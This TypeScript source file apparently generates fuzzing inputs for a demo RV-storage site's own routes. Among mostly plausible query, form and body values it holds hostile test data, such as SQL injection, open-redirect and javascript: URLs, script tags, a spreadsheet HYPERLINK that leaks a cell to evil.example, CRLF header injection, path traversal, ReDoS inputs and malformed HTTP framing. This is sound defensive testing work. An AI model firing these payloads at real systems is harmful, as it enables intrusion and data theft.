/**
 * fast-check arbitraries for whole HTTP requests to the site: a route of app/routes.ts (or an API
 * the server mounts outside it) with generated parameters, a method, a query string, headers and a
 * body, each mostly plausible and sometimes hostile. See docs/operations.md, "Fuzzing".
 */
import fc from "fast-check";
import { REVIEW_REPORT_KINDS, REVIEW_SORTS, STORED_KINDS } from "../../domain/reviews";
import type { RawRequest } from "./raw-http";

/** What the generators need to know about the running site to reach past the first check. */
export interface SiteFacts {
  /** `127.0.0.1:4123`: the Host a browser would send. */
  host: string;
  /** Facility slugs and ids of the demo catalogue. */
  facilitySlugs: string[];
  locationIds: string[];
  /** `Name=value; Name=value` of an anonymous session, for the APIs that need one. */
  sessionCookie: string;
  /** Cookies of a listing owner and an admin (the fixture accounts), to reach past the consoles' guards. */
  signedInCookies: string[];
  /**
   * Ids of the fixture promotion, invoice, lead, claim and review: the consoles' forms and query
   * strings take them.
   */
  recordIds: string[];
  /** Place photos already drawn (the first request of a demo photo draws it, which takes seconds). */
  warmImages: { placeId: string; index: number }[];
}

/** One generated request and what may excuse a slow answer. */
export interface FuzzInput {
  request: RawRequest;
  /** The route template it was made from ("/location/:slug"), for grouping failures. */
  route: string;
  /** The body is shorter than its Content-Length: the server rightly waits for the rest. */
  bodyShort: boolean;
  /** Some value is thousands of characters long. */
  long: boolean;
}

export const METHODS = ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH"] as const;

/** Routes the server answers outside app/routes.ts (server/app.ts) and the built files. */
export const EXTRA_ROUTES = [
  "/api/search",
  "/healthz",
  "/api/auth/get-session",
  "/api/auth/sign-in/anonymous",
  "/api/auth/sign-out",
  "/api/auth/:splat",
  "/favicon.ico",
  "/assets/:splat",
];

const HUMAN_AGENT =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36";

// ---------------------------------------------------------------------------------------------
// Text

/** Percent-encodes every byte of the UTF-8 form except unreserved characters (lone surrogates become U+FFFD). */
export function percentEncode(text: string): string {
  let out = "";
  for (const byte of Buffer.from(text, "utf8")) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`;
  }
  return out;
}

const CONTROL = fc.integer({ min: 0, max: 31 }).map((code) => String.fromCharCode(code));
const PERCENT_GARBAGE = fc.constantFrom(
  "%",
  "%%",
  "%Z1",
  "%E2%82",
  "%C0%AF",
  "%FF",
  "%00",
  "%u0041",
  "%2",
  "%ED%A0%80",
);

/**
 * A fragment repeated hundreds to thousands of times between a short prefix and suffix: the input
 * shape that makes a backtracking regular expression take super-linear time ("1" + spaces + "x").
 */
const repeatedAny = fc
  .record({
    prefix: fc.constantFrom("", "1", "30.2", "-97", "a", "austin", "(", "00000"),
    fragment: fc.constantFrom(" ", "\t", " ,", ",", "-", "a-", "1", "0.", "°", "_", "  1"),
    count: fc.integer({ min: 200, max: 4000 }),
    suffix: fc.constantFrom("", "x", "!", "1", "-tx", ", TX", "N", " 78701", ")"),
  })
  .map(({ prefix, fragment, count, suffix }) => prefix + fragment.repeat(count) + suffix);
/** A number, a long run of separators, then something that is not a number: "1" + spaces + "x". */
const repeatedAfterNumber = fc
  .record({
    number: fc.constantFrom("1", "30.2", "-97.7", "1e5", "30.27° N"),
    fragment: fc.constantFrom(" ", "\t", " ,", ", "),
    count: fc.integer({ min: 200, max: 4000 }),
    suffix: fc.constantFrom("x", "!", "a", "-"),
  })
  .map(({ number, fragment, count, suffix }) => number + fragment.repeat(count) + suffix);
const repeated = fc.oneof(repeatedAny, repeatedAfterNumber);

/** Several kilobytes of arbitrary text (a short random run repeated, so generation stays cheap). */
const longText = fc
  .tuple(fc.string({ unit: "binary", minLength: 1, maxLength: 40 }), fc.integer({ min: 1000, max: 8000 }))
  .map(([run, length]) => run.repeat(Math.ceil(length / run.length)).slice(0, length));

const numberText = fc.oneof(
  fc.double().map(String),
  fc.integer().map(String),
  fc.constantFrom("NaN", "Infinity", "-0", "1e308", "-1e-400", "0x1F", "99999999999999999999999", "", " 5 ", "1,2"),
);

/** A review's stars and its four optional sub-ratings: 1 to 5, and what is not. */
const STARS = fc.constantFrom("1", "3", "5", "0", "6", "-1", "4.5", "NaN", "1e309", "05", "0x5", " 4 ", "");

/** Plausible values for the parameters the site reads, so that generated requests get past the first check. */
const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
  lat: fc.oneof(fc.double({ min: -95, max: 95, noNaN: true }).map(String), fc.constant("30.27")),
  lng: fc.oneof(fc.double({ min: -185, max: 185, noNaN: true }).map(String), fc.constant("-97.74")),
  radius: fc.oneof(fc.integer({ min: -10, max: 600 }).map(String), fc.constant("100")),
  size: fc.constantFrom("10x10", "12x40", "20x40", "10x20,12x30", "9x9", "10X10", "12x40\u0000", "x".repeat(30)),
  // "Available now" takes 1 or 0 (issue 35).
  available: fc.constantFrom("1", "0", "true", "", "2", "1e0"),
  // The waitlist links' signed tokens (server/auth/signed-link.ts): garbage, a forged shape, a huge one.
  token: fc.constantFrom(
    "",
    "garbage",
    "eyJ4IjoxfQ.AAAA",
    "WyJ4IiwxXQ.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "a.b.c",
    "%00",
    "t".repeat(3000),
  ),
  // The admin overview's purge form: a path or an address of the site, or of another one in disguise.
  path: fc.constantFrom(
    "/location/x",
    "/rv-storage/austin-tx?size=10x20",
    "http://127.0.0.1/blog",
    "https://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "/a\u0000b",
    "javascript:alert(1)",
    `/${"a".repeat(3000)}`,
  ),
  amenity: fc.constantFrom("has_covered_parking", "dump_station", "pull_thru", "has_uncovered_parking", "wifi"),
  sort: fc.constantFrom("distance", "rating", "price", ""),
  page: fc.integer({ min: -2, max: 100_000 }).map(String),
  pageSize: fc.integer({ min: -1, max: 200 }).map(String),
  state: fc.constantFrom("TX", "tx", "ZZ", "Texas", "", "CA"),
  where: fc.constantFrom("Austin, TX", "78701", "Texas", "30.27, -97.74", "30.27° N 97.74° W", "Nowhere", "austin"),
  q: fc.constantFrom("austin", "rv", "aus", "780", "san an", "Storage", "a"),
  from: fc.constantFrom("2026-01-01", "2026-13-40", "yesterday", ""),
  to: fc.constantFrom("2026-12-31", "2026-02-30", "0", ""),
  redirectTo: fc.constantFrom(
    "/owner",
    "//evil.example",
    "https://evil.example/",
    "/\\evil.example",
    "javascript:alert(1)",
  ),
  email: fc.constantFrom("owner@example.com", "a@b", "not-an-email", "x@example.com"),
  password: fc.constantFrom("correct horse battery", "short", "x".repeat(129)),
  name: fc.constantFrom("Ann", "", "Robert'); DROP TABLE users;--"),
  remember: fc.constantFrom("on", "off", "true"),
  intent: fc.constantFrom(
    "login",
    "signup",
    "logout",
    "lead",
    "reply",
    "status",
    // A reservation request's answer in /owner/leads (issue 35).
    "accept",
    "decline",
    "request",
    "change",
    "cancel",
    "renew",
    "portal",
    "pay",
    "owner-assign",
    // The review form, the facility page's review buttons, /owner/reviews and the queue's Reviews
    // section (issue 34), and near misses of them.
    "save",
    "delete",
    "helpful",
    "report-review",
    "owner-report",
    "confirm-stay",
    "review-approve",
    "review-reject",
    "review-remove",
    "SAVE",
    "save ",
    "review-",
    "__proto__",
  ),
  ids: fc.constantFrom("ChIJabc123def456,ChIJxyz789uvw012", "a,b,c,d,e", "only_one_id_here", ",,", "a<b,c", ""),
  rvLength: fc.constantFrom("40", "9", "101", "40.5", "forty", ""),
  rvHeight: fc.constantFrom("13", "5", "21", ""),
  // The lead form and the consoles' forms (issue 30: a line break in a one-line field, a `back`
  // that leaves the site, a plan change, a forged request id).
  rvType: fc.constantFrom("class_a", "fifth_wheel", "boat", "bogus"),
  rvLengthFeet: fc.constantFrom("38", "0", "101", "38.5", "x"),
  cover: fc.constantFrom("covered", "any", "indoor", "bogus"),
  moveIn: fc.constantFrom("2026-12-01", "2026-02-30", "soon", "", "2099-01-01", "2000-01-01"),
  phone: fc.constantFrom("+1 512 555 0100", "555", "+1 512\r\n555", "=1+1", ""),
  message: fc.constantFrom(
    "Do you have a space?",
    "URGENT\r\nhttps://evil.example/login",
    '=HYPERLINK("x")',
    "",
    "nul\u0000here",
    "x".repeat(1001),
  ),
  back: fc.constantFrom(
    "/owner/leads",
    "/owner/leads\r\nSet-Cookie: x=1",
    "//evil.example",
    "https://evil.example/",
    "",
  ),
  status: fc.constantFrom("new", "contacted", "closed", "held", "published", "rejected", "removed", "bogus"),
  tier: fc.constantFrom("Basic", "Pro", "Premium", "Free", "bogus"),
  interval: fc.constantFrom("month", "year", "week"),
  website: fc.constantFrom("https://example.com", "javascript:alert(1)", "data:text/html,x", "example.com"),
  parkingOptions: fc.constantFrom("Covered", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "@SUM(1+1)"),
  session_id: fc.constantFrom("cs_test_123", "", "x".repeat(300)),
  // The review form (/location/{slug}/review), its limits and just past them: 1 to 5 stars, a
  // one-line title up to 120 characters, a body of 20 to 2,000, a stay month of the last ten
  // years, 8 to 65 feet; NUL and other control characters, which the form refuses.
  stars: STARS,
  security: STARS,
  access: STARS,
  value: STARS,
  cleanliness: STARS,
  title: fc.constantFrom(
    "Dry and locked",
    "",
    "   ",
    "t".repeat(120),
    "t".repeat(121),
    "two\nlines",
    "nul\u0000title",
    "bell\u0007",
    "\u202Eevil",
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example")',
  ),
  body: fc.constantFrom(
    "Stored our fifth wheel here all winter; the gate code worked every time.",
    "Too short",
    "b".repeat(2000),
    "b".repeat(2001),
    " ".repeat(30),
    "Line one of the stay\r\nline two\rline three\n",
    "A body with a NUL \u0000 in the middle of it",
    "Call 512-555-0100 or see https://evil.example for a better deal",
    "\u0000".repeat(25),
  ),
  stayMonth: fc.constantFrom(
    "2026-01",
    "2024-06",
    "2026-13",
    "2026-00",
    "9999-01",
    "0000-01",
    "1999-12",
    "2026-1",
    "2026-01-15",
    "-2026-01",
    "__proto__",
    "constructor",
    "",
  ),
  storedKind: fc.constantFrom(...STORED_KINDS, "CLASS_A", "bogus", "__proto__", "toString", ""),
  lengthFeet: fc.constantFrom("30", "8", "65", "7", "66", "30.5", "-30", "0", "NaN", "1e309", "0x1E", " 30 ", ""),
  // The facility page's Helpful and Report buttons, /owner/reviews and the queue's decisions.
  reviewId: fc.constantFrom(
    "1",
    "2",
    "0",
    "-1",
    "1.5",
    "1e309",
    "-1e309",
    "9007199254740991",
    "9007199254740992",
    "99999999999999999999999",
    "1 OR 1=1",
    "1; DROP TABLE reviews;--",
    "0x1",
    "NaN",
    "",
  ),
  // A review report's kind, and the lead form's choice: a question or a reservation request (issue 35).
  kind: fc.constantFrom(
    ...REVIEW_REPORT_KINDS,
    "SPAM",
    "bogus",
    "__proto__",
    "",
    "question",
    "reservation",
    "Reservation",
  ),
  // The note of a declined reservation request: at most 500 characters of plain text.
  note: fc.constantFrom("Sorry, we are full until spring.", "", "n".repeat(501), "nul\u0000note", "two\r\nlines"),
  reason: fc.constantFrom(
    "Names a competitor",
    "",
    "   ",
    "r".repeat(1000),
    "r".repeat(1001),
    "two\r\nlines",
    "nul\u0000reason",
  ),
  // The queue's sections (/admin/manage?section=) and the facility page's reviews (sort, page, notice).
  section: fc.constantFrom("changes", "reports", "problems", "leads", "reviews", "REVIEWS", "__proto__", ""),
  reviews: fc.constantFrom(...REVIEW_SORTS, "bogus", ""),
  rpage: fc.constantFrom("1", "2", "0", "-1", "1.5", "1e309", "99999999999999999999", "x", ""),
  review: fc.constantFrom("published", "held", "deleted", "error", "<b>x</b>", ""),
};
const KNOWN_KEYS = Object.keys(PLAUSIBLE);

/** A value for `key`: usually plausible, sometimes unicode, control characters, numbers or very long. */
function valueFor(key: string, site?: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> {
  const ids = site?.recordIds ?? [];
  if (ids.length > 0 && (RECORD_FIELDS.includes(key) || key === "promotion"))
    return fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...ids).map((text) => ({ text, long: false })) },
      // The field's own values otherwise (a review id of "1e309"), or any text.
      { weight: 1, arbitrary: valueFor(key) },
    );
  // Free text that reaches parsers (place names, coordinates, search text) gets long values more often.
  const longWeight = ["where", "q"].includes(key) ? 6 : 1;
  const short = (arb: fc.Arbitrary<string>) => arb.map((text) => ({ text, long: false }));
  const long = (arb: fc.Arbitrary<string>) => arb.map((text) => ({ text, long: true }));
  return fc.oneof(
    { weight: 6, arbitrary: short(Object.hasOwn(PLAUSIBLE, key) ? PLAUSIBLE[key]! : fc.string({ maxLength: 12 })) },
    { weight: 2, arbitrary: short(fc.string({ maxLength: 30 })) },
    { weight: 2, arbitrary: short(fc.string({ unit: "grapheme", maxLength: 30 })) },
    { weight: 1, arbitrary: short(fc.string({ unit: "binary", maxLength: 30 })) },
    {
      weight: 1,
      arbitrary: short(
        fc.array(fc.oneof(CONTROL, fc.string({ maxLength: 3 })), { maxLength: 10 }).map((parts) => parts.join("")),
      ),
    },
    { weight: 2, arbitrary: short(numberText) },
    { weight: 1, arbitrary: long(longText) },
    { weight: longWeight, arbitrary: long(repeated) },
  );
}

/** A value as it goes into a URL: percent-encoded, or with `+` for spaces, or with garbage escapes. */
function encodedValue(
  value: fc.Arbitrary<{ text: string; long: boolean }>,
): fc.Arbitrary<{ text: string; long: boolean }> {
  return fc
    .tuple(value, fc.constantFrom("percent", "percent", "percent", "plus", "garbage"), PERCENT_GARBAGE, fc.nat())
    .map(([{ text, long }, how, garbage, at]) => {
      if (how === "plus") return { text: percentEncode(text).replace(/%20/g, "+"), long };
      const encoded = percentEncode(text);
      if (how === "garbage") {
        const cut = encoded.length === 0 ? 0 : at % (encoded.length + 1);
        return { text: encoded.slice(0, cut) + garbage + encoded.slice(cut), long };
      }
      return { text: encoded, long };
    });
}

/** The query parameters each route reads, so that most generated keys reach some code. */
const ROUTE_KEYS: Record<string, string[]> = {
  // `where` is the free text typed into the search box: drawn three times as often.
  "/rv-storage/:slug?": [
    "where",
    "where",
    "where",
    "lat",
    "lng",
    "radius",
    "size",
    "amenity",
    "sort",
    "page",
    "q",
    "available",
  ],
  "/api/search": ["lat", "lng", "radius", "size", "amenity", "q", "sort", "page", "pageSize", "state", "available"],
  "/api/places/suggest": ["q"],
  "/api/places/reverse": ["lat", "lng"],
  "/compare": ["ids", "ids", "lat", "lng", "rvLength", "rvHeight"],
  "/api/metrics/locations/:locationId": ["from", "to"],
  "/login": ["redirectTo"],
  "/business/login": ["redirectTo"],
  "/signup": ["redirectTo"],
  "/owner/checkout": ["promotion"],
  "/owner/checkout/success": ["promotion", "session_id"],
  "/owner/leads": ["back", "status", "kind"],
  "/admin/locations/export": ["format"],
  "/location/:slug": ["reviews", "rpage", "review"],
  "/location/:slug/waitlist": ["size"],
  "/waitlist/confirm": ["token"],
  "/waitlist/leave": ["token"],
  "/owner/reviews": ["page", "page"],
  "/admin/manage": ["section", "section", "page"],
};

const queryKey = (route: string) =>
  fc.oneof(
    { weight: ROUTE_KEYS[route] ? 6 : 0, arbitrary: fc.constantFrom(...(ROUTE_KEYS[route] ?? ["q"])) },
    { weight: 3, arbitrary: fc.constantFrom(...KNOWN_KEYS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }).map(percentEncode) },
    { weight: 1, arbitrary: fc.constantFrom("", "a[]", "__proto__", "constructor", "_data", "index", "_routes") },
  );

/** A query string with repeated keys, garbage escapes, empty pairs and sometimes no `=`. */
const queryString = (route: string, site: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> =>
  fc.oneof(
    { weight: 1, arbitrary: fc.constant({ text: "", long: false }) },
    {
      weight: 6,
      arbitrary: fc
        .array(
          queryKey(route).chain((key) =>
            fc.tuple(fc.constant(key), encodedValue(valueFor(key, site)), fc.boolean(), fc.integer({ min: 1, max: 3 })),
          ),
          { minLength: 1, maxLength: 8 },
        )
        .map((pairs) => {
          const parts: string[] = [];
          let long = false;
          for (const [key, value, withEquals, times] of pairs) {
            long ||= value.long;
            for (let i = 0; i < times; i++) parts.push(withEquals || value.text ? `${key}=${value.text}` : key);
          }
          return { text: `?${parts.join("&")}`, long };
        }),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom("?", "?&&&", "?=", "?==&=", "?%", "?a=%", "?where", "?lat=1&lat=2&lat=3")
        .map((text) => ({
          text,
          long: false,
        })),
    },
  );

// ---------------------------------------------------------------------------------------------
// Paths

const garbageSegment: fc.Arbitrary<{ text: string; long: boolean }> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 20 }).map((s) => ({ text: percentEncode(s), long: false })) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }).map((s) => ({ text: percentEncode(s), long: false })),
  },
  {
    weight: 2,
    arbitrary: fc
      .constantFrom("..", "%2e%2e", "%2F", "%00", "%", "%ZZ", ".", "~", "%C0%AE", "index.html", "%E2%80%AE")
      .map((text) => ({ text, long: false })),
  },
  // Raw UTF-8, but whitespace and control characters encoded: a raw space would split the request line.
  {
    weight: 1,
    arbitrary: fc.string({ unit: "grapheme", maxLength: 6 }).map((text) => ({
      text: [...text]
        .map((c) => (c.trim() === "" || c.charCodeAt(0) < 32 || c === "\u007f" ? encodeURIComponent(c) : c))
        .join(""),
      long: false,
    })),
  },
  { weight: 1, arbitrary: longText.map((s) => ({ text: percentEncode(s), long: true })) },
  { weight: 1, arbitrary: repeated.map((s) => ({ text: percentEncode(s), long: true })) },
);

const slugLike = fc
  .array(fc.stringMatching(/^[a-z0-9]{1,10}$/), { minLength: 1, maxLength: 6 })
  .map((parts) => ({ text: parts.join("-"), long: false }));

/** Generated values per route parameter name, real ones from the running site among them. */
function paramValue(name: string, site: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> {
  const known = (values: string[]) =>
    values.length > 0 ? fc.constantFrom(...values).map((text) => ({ text, long: false })) : slugLike;
  const mutated = (values: string[]) =>
    fc.tuple(known(values), fc.constantFrom("upper", "suffix", "prefix", "id-only", "double-dash")).map(([v, how]) => {
      const text = v.text;
      const changed =
        how === "upper"
          ? text.toUpperCase()
          : how === "suffix"
            ? `${text}-x`
            : how === "prefix"
              ? `a-${text}`
              : how === "id-only"
                ? (text.split("-").at(-1) ?? text)
                : text.replace(/-/g, "--");
      return { text: changed, long: false };
    });
  switch (name) {
    case "slug":
      return fc.oneof(
        known(["austin-tx", "tx", "san-antonio-tx", "new-york-ny", "zz", "austin-zz", ...site.facilitySlugs]),
        mutated(site.facilitySlugs),
        slugLike,
        garbageSegment,
      );
    case "locationId":
    case "id":
    case "placeId":
      return fc.oneof(known(site.locationIds), mutated(site.locationIds), slugLike, garbageSegment);
    case "file":
      return fc.oneof(
        fc
          .record({
            width: fc.constantFrom("320", "640", "960", "1280", "100", "0", "99999999999"),
            index: fc.constantFrom("1", "0", "-1", "999"),
            ext: fc.constantFrom("avif", "webp", "jpg", "png", "svg", "JPG"),
          })
          .map(({ width, index, ext }) => ({ text: `w${width}n${index}.${ext}`, long: false })),
        garbageSegment,
      );
    case "name":
      return fc.oneof(
        fc
          .constantFrom(
            "places.xml",
            "facilities-1.xml",
            "facilities-0.xml",
            "facilities-99999999999999999999.xml",
            "x.xml",
          )
          .map((text) => ({ text, long: false })),
        garbageSegment,
      );
    default:
      return fc.oneof(slugLike, garbageSegment);
  }
}

/** A concrete path for a route template; place photos of real listings only among the warm ones. */
function pathFor(template: string, site: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> {
  if (template === "/place-images/:placeId/:file" && site.warmImages.length > 0) {
    const warm = fc
      .tuple(
        fc.constantFrom(...site.warmImages),
        fc.constantFrom("320", "640", "960", "1280"),
        fc.constantFrom("avif", "webp", "jpg"),
      )
      .map(([{ placeId, index }, width, ext]) => ({
        text: `/place-images/${placeId}/w${width}n${index}.${ext}`,
        long: false,
      }));
    const other = fc
      .tuple(garbageSegment, paramValue("file", site))
      .map(([id, file]) => ({ text: `/place-images/${id.text}/${file.text}`, long: id.long || file.long }));
    return fc.oneof(warm, other);
  }
  const pieces = template.split("/").slice(1);
  return fc
    .tuple(
      ...pieces.map((piece): fc.Arbitrary<{ text: string; long: boolean } | null> => {
        if (piece.startsWith(":")) {
          const optional = piece.endsWith("?");
          const value = paramValue(piece.slice(1).replace(/\?$/, ""), site);
          return optional ? fc.option(value, { nil: null }) : value;
        }
        if (piece === "*") {
          return fc
            .array(garbageSegment, { minLength: 1, maxLength: 4 })
            .map((segments) => ({ text: segments.map((s) => s.text).join("/"), long: segments.some((s) => s.long) }));
        }
        return fc.constant({ text: piece, long: false });
      }),
    )
    .map((parts) => {
      const present = parts.filter((p): p is { text: string; long: boolean } => p !== null);
      return { text: `/${present.map((p) => p.text).join("/")}`, long: present.some((p) => p.long) };
    });
}

// ---------------------------------------------------------------------------------------------
// Headers and bodies

type Header = readonly [string, string];

/** Header values must not end the line early: only the "raw" variants carry control characters. */
const headerText = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }).map((s) => s.replace(/[\r\n]/g, "")) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }).map((s) => s.replace(/[\r\n]/g, "")) },
  { weight: 1, arbitrary: longText.map((s) => s.replace(/[\r\n]/g, "")) },
  {
    weight: 1,
    arbitrary: fc.array(CONTROL, { minLength: 1, maxLength: 4 }).map((s) => s.join("").replace(/[\r\n]/g, "\x01")),
  },
);

interface BodyChoice {
  body: Buffer;
  contentType: string | null;
}

const FORM_FIELDS = ["email", "password", "name", "redirectTo", "remember", "intent"];
/** The lead form's and the consoles' fields, sent when the request carries a signed-in cookie or names a facility. */
const RECORD_FIELDS = ["promotionId", "leadId", "invoiceId", "claimId", "id", "reviewId"];
const OTHER_FIELDS = [
  "rvType",
  "rvLengthFeet",
  "cover",
  "moveIn",
  "phone",
  "message",
  "back",
  "status",
  "tier",
  "interval",
  "website",
  "parkingOptions",
];
/** The review form's fields (/location/{slug}/review, issue 34). */
const REVIEW_FIELDS = [
  "stars",
  "title",
  "body",
  "stayMonth",
  "storedKind",
  "lengthFeet",
  "security",
  "access",
  "value",
  "cleanliness",
];
/**
 * The forms of the routes whose action tells several apart by `intent`: its intents and the
 * fields it reads, drawn in half the fields of a form posted there (any other field may come too).
 */
const ROUTE_FORMS: Record<string, { intents: string[]; fields: string[] }> = {
  "/location/:slug/review": { intents: ["save", "delete"], fields: ["intent", "intent", ...REVIEW_FIELDS] },
  // The waitlist (issue 35): no intents; a size, an address, a length, and the links' signed tokens.
  "/location/:slug/waitlist": {
    intents: [],
    fields: ["size", "size", "email", "email", "rvLengthFeet", "rvLengthFeet"],
  },
  "/waitlist/confirm": { intents: [], fields: ["token", "token"] },
  "/waitlist/leave": { intents: [], fields: ["token", "token"] },
  "/location/:slug": {
    intents: ["helpful", "report-review", "lead"],
    fields: ["intent", "intent", "reviewId", "reviewId", "kind", "kind", "message", "moveIn"],
  },
  // The leads and reservation requests (issue 35): reply, status, accept, and decline with a note.
  "/owner/leads": {
    intents: ["reply", "status", "accept", "decline"],
    fields: ["intent", "intent", "leadId", "leadId", "body", "status", "note", "back"],
  },
  "/owner/reviews": {
    intents: ["reply", "owner-report", "confirm-stay"],
    fields: ["intent", "intent", "reviewId", "reviewId", "body", "kind", "message"],
  },
  // The overview's "Purge a page from the shared cache" (issue 37): a path or an address of the site.
  "/admin": { intents: ["purge-cache"], fields: ["intent", "intent", "path", "path", "path"] },
  "/admin/manage": {
    intents: [
      "review-approve",
      "review-reject",
      "review-remove",
      "resolve",
      "dismiss",
      "hide-duplicate",
      "lead-handled",
      "approve",
      "reject",
    ],
    fields: ["intent", "intent", "reviewId", "reviewId", "status", "reason"],
  },
};

/**
 * Routes whose form posts to an index route's action: React Router sends such a POST to the
 * layout (405) unless the address carries `?index`, as the page's own form does.
 */
const INDEX_ACTIONS = new Set(["/admin"]);

/** `query` as a form on `route` posts it: with `index` first where the action is an index route's. */
const postedQuery = (route: string, query: string): string =>
  !INDEX_ACTIONS.has(route) ? query : query.startsWith("?") ? `?index&${query.slice(1)}` : `?index${query}`;

/** A form for `route`: its own fields and intents mostly when ROUTE_FORMS lists it. */
const formBody = (site: SiteFacts, route = ""): fc.Arbitrary<BodyChoice> => {
  const own = ROUTE_FORMS[route];
  const value = (key: string) =>
    key === "intent" && own && own.intents.length > 0
      ? fc.oneof(
          { weight: 4, arbitrary: fc.constantFrom(...own.intents).map((text) => ({ text, long: false })) },
          { weight: 1, arbitrary: valueFor(key, site) },
        )
      : valueFor(key, site);
  return fc
    .array(
      fc
        .oneof(
          { weight: own ? 6 : 0, arbitrary: fc.constantFrom(...(own?.fields ?? ["x"])) },
          { weight: 3, arbitrary: fc.constantFrom(...FORM_FIELDS, "x") },
          { weight: 3, arbitrary: fc.constantFrom(...OTHER_FIELDS, ...RECORD_FIELDS) },
        )
        .chain((key) =>
          // A name sent two or three times is an array to the server (`getAll`), one value to `get`.
          fc.tuple(fc.constant(key), encodedValue(value(key)), fc.constantFrom(1, 1, 1, 1, 2, 3)),
        ),
      { maxLength: 8 },
    )
    .map((pairs) => ({
      body: Buffer.from(pairs.flatMap(([k, v, times]) => Array<string>(times).fill(`${k}=${v.text}`)).join("&")),
      contentType: "application/x-www-form-urlencoded",
    }));
};

const analyticsEvent = fc.record(
  {
    eventId: fc.oneof(fc.stringMatching(/^[A-Za-z0-9_]{1,20}$/), fc.string()),
    eventType: fc.constantFrom("page_view", "list_view", "click", "detail_view", "bogus"),
    timestamp: fc.oneof(
      fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
      fc.string(),
    ),
    sessionId: fc.oneof(fc.stringMatching(/^[A-Za-z0-9_]{1,20}$/), fc.string()),
    url: fc.oneof(fc.constant("http://127.0.0.1/"), fc.string()),
    locationId: fc.oneof(fc.constant("demo_x"), fc.string()),
    elementType: fc.constantFrom("phone", "website", "directions", "bogus"),
    viewport: fc.record({ width: fc.integer(), height: fc.integer() }),
  },
  { requiredKeys: [] },
);

const jsonBody: fc.Arbitrary<BodyChoice> = fc
  .oneof(
    fc.json({ maxDepth: 4 }),
    fc.array(analyticsEvent, { maxLength: 120 }).map((events) => JSON.stringify(events)),
    fc
      .record({ email: fc.string(), password: fc.string(), name: fc.string() }, { requiredKeys: [] })
      .map((o) => JSON.stringify(o)),
    fc.constantFrom("{}", "[]", "null", "{", '{"__proto__":{"x":1}}', "[".repeat(5000) + "]".repeat(5000)),
  )
  .map((text) => ({ body: Buffer.from(text), contentType: "application/json" }));

const multipartBody: fc.Arbitrary<BodyChoice> = fc
  .tuple(
    fc.array(fc.tuple(fc.constantFrom(...FORM_FIELDS, "file"), fc.string({ maxLength: 40 })), { maxLength: 4 }),
    fc.constantFrom("ok", "no-close", "wrong-boundary", "no-boundary-param"),
  )
  .map(([fields, variant]) => {
    const boundary = "----fuzzboundary7MA4YWxkTrZu0gW";
    const parts = fields
      .map(([name, value]) =>
        name === "file"
          ? `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${value}\r\n`
          : `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      )
      .join("");
    const close = variant === "no-close" ? "" : `--${boundary}--\r\n`;
    const declared = variant === "wrong-boundary" ? "other" : variant === "no-boundary-param" ? null : boundary;
    return {
      body: Buffer.from(parts + close),
      contentType: declared ? `multipart/form-data; boundary=${declared}` : "multipart/form-data",
    };
  });

const bodyChoice = (site: SiteFacts, route: string): fc.Arbitrary<BodyChoice> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constant({ body: Buffer.alloc(0), contentType: null }) },
    { weight: 3, arbitrary: formBody(site, route) },
    { weight: 3, arbitrary: jsonBody },
    { weight: 1, arbitrary: multipartBody },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.uint8Array({ maxLength: 4096 }),
          fc.constantFrom(null, "application/octet-stream", "text/plain", "application/json"),
        )
        .map(([bytes, contentType]) => ({ body: Buffer.from(bytes), contentType })),
    },
    {
      // Huge-ish: up to a few megabytes of one byte, as cheap to make as to send.
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom(70 * 1024, 300 * 1024, 1024 * 1024, 3 * 1024 * 1024),
          fc.constantFrom(0x61, 0x7b, 0x00, 0x26),
          fc.constantFrom("application/json", "application/x-www-form-urlencoded", "text/plain"),
        )
        .map(([size, byte, contentType]) => ({ body: Buffer.alloc(size, byte), contentType })),
    },
  );

const CONTENT_TYPES = [
  "application/json",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "text/plain",
  "application/json; charset=utf-16",
  "application/x-www-form-urlencoded; charset=bogus",
  "text/plain;;;",
  "*/*",
  "",
  "garbage",
];

/** How the body is framed: a true Content-Length, a lie either way, a bad value, or chunked. */
const framing = fc.oneof(
  { weight: 8, arbitrary: fc.constant("length" as const) },
  { weight: 1, arbitrary: fc.constant("none" as const) },
  { weight: 1, arbitrary: fc.constant("shorter" as const) },
  { weight: 1, arbitrary: fc.constant("longer" as const) },
  { weight: 1, arbitrary: fc.constant("garbage" as const) },
  { weight: 1, arbitrary: fc.constant("duplicate" as const) },
  { weight: 1, arbitrary: fc.constant("chunked" as const) },
  { weight: 1, arbitrary: fc.constant("broken-chunked" as const) },
);

function chunked(body: Buffer): Buffer {
  const pieces: Buffer[] = [];
  for (let at = 0; at < body.length; at += 8192) {
    const chunk = body.subarray(at, at + 8192);
    pieces.push(Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from("\r\n"));
  }
  pieces.push(Buffer.from("0\r\n\r\n"));
  return Buffer.concat(pieces);
}

